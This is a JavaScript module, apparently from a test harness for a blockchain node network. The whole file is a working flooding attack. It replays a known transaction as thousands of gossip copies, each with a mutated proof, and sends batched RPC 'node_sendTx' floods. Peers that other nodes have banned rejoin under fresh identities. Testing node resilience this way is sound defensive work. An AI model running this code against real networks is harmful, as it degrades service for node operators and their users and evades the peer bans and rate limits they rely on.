// Sixteen thousand copies of transactions that the network knows: half by gossip, each with another end of its proof
// and so another message of the same transaction, half by RPC, as they are. A peer that most nodes have sent away comes
// back under another name.
import { decodeTx, encodeTx } from "@sprtn/protocol";
import { jsFieldHasher } from "@sprtn/primitives";
import { letIn, pause, startPeer } from "./peer.mjs";

const COPIES = 16_000;
const PEERS = 8;
const CLIENTS = 4;
const AT_ONCE = 20;

export const hasAttacked = ({ gossiped, posted }) => gossiped >= COPIES / 16 && posted >= COPIES / 16;

export async function attack(target, counts, signal) {
  Object.assign(counts, { gossiped: 0, names: 0, posted: 0, carriedOut: 0, refusedRequests: 0 });
  const signUp = async () => {
    counts.names++;
    const node = await startPeer(target);
    await letIn(node, signal);
    return node;
  };
  const nodes = await Promise.all(Array.from({ length: PEERS }, signUp));
  const known = await knownTx(target, signal);
  if (known === undefined) return;

  let copies = 0;
  const gossip = async first => {
    let node = first;
    while (!signal.aborted && counts.gossiped < COPIES / 2) {
      if (node.peers().length < target.addresses.length / 2) {
        await node.stop();
        node = await signUp();
      }
      for (let i = 0; i < AT_ONCE; i++) {
        const proof = Uint8Array.from(known.proof);
        new DataView(proof.buffer).setUint32(Math.max(0, proof.length - 4), ++copies);
        // A node publishes no more than its peers take: the rest comes in the next round.
        const sent = await node.publish("tx", encodeTx({ ...known, proof })).catch(() => 0);
        if (sent > 0) counts.gossiped++;
      }
      await pause(200, signal);
    }
  };
  const params = [`0x${Buffer.from(encodeTx(known)).toString("hex")}`];
  const calls = Array.from({ length: AT_ONCE }, (_, id) => ({ jsonrpc: "2.0", id, method: "node_sendTx", params }));
  const body = JSON.stringify(calls);
  const headers = { "content-type": "application/json" };
  const post = async () => {
    while (!signal.aborted && counts.posted < COPIES / 2) {
      counts.posted += AT_ONCE;
      const response = await fetch(target.rpc, { method: "POST", headers, body, signal }).catch(() => undefined);
      const answers = response?.status === 200 ? await response.json().catch(() => []) : [];
      if (response?.status !== 200) counts.refusedRequests++;
      counts.carriedOut += answers.filter(({ error }) => error?.data?.code !== "RPC_RATE_LIMITED").length;
      await pause(50, signal);
    }
  };
  await Promise.all([...nodes.map(gossip), ...Array.from({ length: CLIENTS }, post)]);
}

/** A transaction that the network has: a pending one, or one of the last block. Undefined if the attack ends first. */
async function knownTx({ rpc }, signal) {
  const ask = async (method, params) => {
    const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method, params });
    const headers = { "content-type": "application/json" };
    const response = await fetch(rpc, { method: "POST", headers, body, signal }).catch(() => undefined);
    return (await response?.json().catch(() => undefined))?.result;
  };
  while (!signal.aborted) {
    const pending = (await ask("node_getPendingTxs", [1])) ?? [];
    const last = await ask("node_getBlock", ["pending"]);
    for (const hash of [...pending, ...(last?.effects ?? []).map(effect => effect.txHash)]) {
      const hex = await ask("node_getTx", [hash]);
      if (hex) return decodeTx(jsFieldHasher, Uint8Array.from(Buffer.from(hex.slice(2), "hex")));
    }
    await pause(500, signal);
  }
}
